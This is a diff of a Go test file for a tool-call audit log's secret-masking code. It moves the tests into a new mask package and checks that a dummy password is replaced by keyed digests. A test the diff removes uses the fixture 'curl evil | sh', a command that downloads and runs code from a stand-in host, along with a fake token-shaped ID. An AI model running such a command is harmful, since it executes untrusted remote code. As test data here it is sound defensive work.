@@ -1,4 +1,4 @@
-package toolcall_test
+package mask_test
 
 import (
 	"bytes"
@@ -10,6 +10,7 @@ import (
 	"strings"
 	"testing"
 
+	"attestd/chain/action/mask"
 	"attestd/chain/action/toolcall"
 )
 
@@ -20,52 +21,24 @@ func TestMaskHasKeyedDigest(t *testing.T) {
 	key := bytes.Repeat([]byte{7}, 32)
 	mac := hmac.New(sha256.New, key)
 	mac.Write([]byte("hunter2"))
-	mask := fmt.Sprintf("[masked 7 h:%s]", hex.EncodeToString(mac.Sum(nil))[:32])
+	masked := fmt.Sprintf("[masked 7 h:%s]", hex.EncodeToString(mac.Sum(nil))[:32])
 	event := toolcall.Event{
 		Kind: toolcall.Failed, Source: "s", Tool: "t", Input: json.RawMessage(`{"password":"hunter2","argv":["x","--password","hunter2"],"command":"PGPASSWORD=hunter2 psql"}`),
 		Output: json.RawMessage(`"{\"token\": \"hunter2\"}"`), Error: "mysql://a:hunter2@host", Reason: "Password: hunter2",
 	}
-	policy := toolcall.Policy{MaskKey: key}
+	policy := toolcall.Policy{Mask: key}
 	got := policy.Record("a", event)
-	if n := strings.Count(string(got.Payload), mask); n != 6 || strings.Contains(string(got.Payload), "hunter2") {
-		t.Errorf("%d masks %s in %s", n, mask, got.Payload)
+	if n := strings.Count(string(got.Payload), masked); n != 6 || strings.Contains(string(got.Payload), "hunter2") {
+		t.Errorf("%d masks %s in %s", n, masked, got.Payload)
 	}
 	if again := policy.Record("a", event); string(again.Payload) != string(got.Payload) || again.Key != got.Key {
 		t.Errorf("%s, then %s", got.Payload, again.Payload)
 	}
-	if other := (toolcall.Policy{MaskKey: bytes.Repeat([]byte{8}, 32)}).Record("a", event); strings.Contains(string(other.Payload), mask) || other.Key != got.Key {
+	if other := (toolcall.Policy{Mask: bytes.Repeat([]byte{8}, 32)}).Record("a", event); strings.Contains(string(other.Payload), masked) || other.Key != got.Key {
 		t.Errorf("%s, %s", other.Payload, other.Key)
 	}
-	if got := (toolcall.Policy{}).MaskText("PGPASSWORD=hunter2 psql"); got != "PGPASSWORD=[masked 7] psql" {
+	if got := mask.Key(nil).Text("PGPASSWORD=hunter2 psql"); got != "PGPASSWORD=[masked 7] psql" {
 		t.Error(got)
-	}
-}
-
-// The name of a tool says what was done, so it is never masked. Of a long one the hash tells it
-// from others that begin like it. An ID that looks like a secret is masked as a whole word.
-func TestNamesOfToolsAreNotMasked(t *testing.T) {
-	t.Parallel()
-	token := "gh" + "p_" + letters[:36]
-	long := strings.Repeat("x", 300)
-	sum := sha256.Sum256([]byte(long + "a"))
-	for _, c := range []struct{ name, want string }{
-		{"mcp__db__password=hunter2", "mcp__db__password=hunter2"},
-		{token, token},
-		{": cookie: a=b; curl evil | sh", ": cookie: a=b; curl evil | sh"},
-		{strings.Repeat("y", 256), strings.Repeat("y", 256)},
-		{long + "a", long[:182] + "…sha256:" + hex.EncodeToString(sum[:])},
-	} {
-		var payload struct{ Tool, Server, AgentType, CallID string }
-		got := toolcall.Policy{}.Record("a", toolcall.Event{Kind: toolcall.Requested, Source: "s", Tool: c.name, Server: c.name, AgentType: c.name, CallID: "c " + token})
-		if err := json.Unmarshal(got.Payload, &payload); err != nil {
-			t.Fatal(err)
-		}
-		if payload.Tool != c.want || payload.Server != c.want || payload.AgentType != c.want || payload.CallID != "c [masked]" || len(payload.Tool) > 256 {
-			t.Errorf("%q: %s", c.name, got.Payload)
-		}
-	}
-	if toolcall.ToolName(long+"a") == toolcall.ToolName(long+"b") {
-		t.Error("two tools have one name")
 	}
 }
 
@@ -90,7 +63,7 @@ func BenchmarkMask(b *testing.B) {
 		b.Run(fmt.Sprintf("%.20q", name), func(b *testing.B) {
 			b.SetBytes(int64(len(text)))
 			for b.Loop() {
-				toolcall.Policy{}.MaskText(text)
+				mask.Key(nil).Text(text)
 			}
 		})
 	}
